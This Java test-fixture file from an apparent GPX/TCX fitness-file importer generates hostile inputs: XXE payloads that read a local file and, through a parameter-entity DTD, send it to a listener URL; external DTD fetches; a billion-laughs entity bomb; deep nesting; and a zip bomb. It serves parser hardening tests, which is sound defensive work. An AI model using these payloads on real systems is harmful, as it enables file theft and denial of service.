package ai.pace42.garmin.files;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.zip.Deflater;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

/**
 * Hostile activity files generated for tests (none is checked in): XML that tries to reach a listener or read a
 * local file, entity bombs, and zip bombs. Each XML one is otherwise a valid one-point GPX or TCX run.
 */
public final class HostileFiles {

    private HostileFiles() {
    }

    /** What the listener serves: reads {@code secretPath} and sends it back to {@code listener} in a URL. */
    static String exfiltratingDtd(String listener, String secretPath) {
        return "<!ENTITY % secret SYSTEM \"file://" + secretPath + "\">"
                + "<!ENTITY % wrap \"<!ENTITY &#x25; send SYSTEM '" + listener + "/leak?%secret;'>\">%wrap;%send;";
    }

    /** Every hostile XML case as a GPX file, by a name that says what it tries. */
    public static Map<String, byte[]> gpx(String listener, String secretPath) {
        return xml(listener, secretPath, HostileFiles::gpxWith);
    }

    /** The same cases as TCX files. */
    public static Map<String, byte[]> tcx(String listener, String secretPath) {
        return xml(listener, secretPath, HostileFiles::tcxWith);
    }

    private interface Document {
        String with(String doctype, String nameText);
    }

    private static Map<String, byte[]> xml(String listener, String secretPath, Document doc) {
        Map<String, String> cases = new LinkedHashMap<>();
        cases.put("xxe-file-entity", doc.with("[<!ENTITY s SYSTEM \"file://" + secretPath + "\">]", "&s;"));
        cases.put("xxe-http-entity", doc.with("[<!ENTITY s SYSTEM \"" + listener + "/entity\">]", "&s;"));
        cases.put("xxe-parameter-entities", doc.with("[<!ENTITY % remote SYSTEM \"" + listener
                + "/evil.dtd\"> %remote;]", "Lunch Run"));
        cases.put("xxe-external-dtd", doc.with("SYSTEM \"" + listener + "/evil.dtd\"", "Lunch Run"));
        cases.put("billion-laughs", doc.with(billionLaughs(), "&lol9;"));
        cases.put("internal-subset-only", doc.with("[<!ENTITY n \"Lunch Run\">]", "&n;"));
        Map<String, byte[]> bytes = new LinkedHashMap<>();
        cases.forEach((name, text) -> bytes.put(name, text.getBytes(StandardCharsets.UTF_8)));
        return bytes;
    }

    private static String billionLaughs() {
        StringBuilder b = new StringBuilder("[<!ENTITY lol0 \"lol\">");
        for (int i = 1; i <= 9; i++) {
            b.append("<!ENTITY lol").append(i).append(" \"").append(("&lol" + (i - 1) + ";").repeat(10)).append("\">");
        }
        return b.append("]").toString();
    }

    private static String gpxWith(String doctype, String nameText) {
        return "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<!DOCTYPE gpx " + doctype + ">\n"
                + "<gpx version=\"1.1\" creator=\"Garmin Connect\" xmlns=\"http://www.topografix.com/GPX/1/1\">"
                + "<trk><name>" + nameText + "</name><type>running</type><trkseg>"
                + "<trkpt lat=\"51.5\" lon=\"-0.12\"><time>2026-05-03T06:30:00Z</time></trkpt>"
                + "<trkpt lat=\"51.50003\" lon=\"-0.12\"><time>2026-05-03T06:30:01Z</time></trkpt>"
                + "</trkseg></trk></gpx>";
    }

    private static String tcxWith(String doctype, String nameText) {
        return "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<!DOCTYPE TrainingCenterDatabase " + doctype + ">\n"
                + "<TrainingCenterDatabase xmlns=\"http://www.garmin.com/xmlschemas/TrainingCenterDatabase/v2\">"
                + "<Activities><Activity Sport=\"Running\"><Id>2026-05-03T06:30:00Z</Id><Notes>" + nameText
                + "</Notes><Lap StartTime=\"2026-05-03T06:30:00Z\"><TotalTimeSeconds>60</TotalTimeSeconds>"
                + "<DistanceMeters>180</DistanceMeters><Track><Trackpoint><Time>2026-05-03T06:30:00Z</Time>"
                + "<DistanceMeters>0</DistanceMeters></Trackpoint></Track></Lap></Activity></Activities>"
                + "</TrainingCenterDatabase>";
    }

    /** Elements nested {@code depth} deep inside a GPX track name. */
    public static byte[] deeplyNestedGpx(int depth) {
        String gpx = TestFiles.gpx(2, false, "running");
        String nest = "<x>".repeat(depth) + "</x>".repeat(depth);
        return gpx.replace("<name>Lunch Run</name>", "<name>Lunch Run</name><extensions>" + nest + "</extensions>")
                .getBytes(StandardCharsets.UTF_8);
    }

    /** One "run.gpx" entry of {@code megabytes} MB of zeros: about 1,000:1, tens of kilobytes on the wire. */
    public static byte[] zipBomb(int megabytes) {
        try {
            ByteArrayOutputStream bytes = new ByteArrayOutputStream();
            try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
                zip.setLevel(Deflater.BEST_COMPRESSION);
                zip.putNextEntry(new ZipEntry("run.gpx"));
                byte[] zeros = new byte[1024 * 1024];
                for (int i = 0; i < megabytes; i++) {
                    zip.write(zeros);
                }
                zip.closeEntry();
            }
            return bytes.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    /** A zip of the given entries, in order. */
    public static byte[] zip(Map<String, byte[]> entries) {
        try {
            ByteArrayOutputStream bytes = new ByteArrayOutputStream();
            try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
                for (Map.Entry<String, byte[]> e : entries.entrySet()) {
                    zip.putNextEntry(new ZipEntry(e.getKey()));
                    zip.write(e.getValue());
                    zip.closeEntry();
                }
            }
            return bytes.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    /** {@code count} entries of {@code bytes} random digits each (about 2:1 compressed), "part-0.txt", …. */
    public static Map<String, byte[]> randomDigits(int count, int bytes, long seed) {
        Map<String, byte[]> entries = new LinkedHashMap<>();
        java.util.Random random = new java.util.Random(seed);
        for (int i = 0; i < count; i++) {
            byte[] digits = new byte[bytes];
            for (int j = 0; j < digits.length; j++) {
                digits[j] = (byte) ('0' + random.nextInt(10));
            }
            entries.put("part-" + i + ".txt", digits);
        }
        return entries;
    }

    /** {@code count} tiny text entries. */
    public static byte[] zipOfManyEntries(int count) {
        Map<String, byte[]> entries = new LinkedHashMap<>();
        for (int i = 0; i < count; i++) {
            entries.put("note-" + i + ".txt", new byte[] {'x'});
        }
        return zip(entries);
    }
}
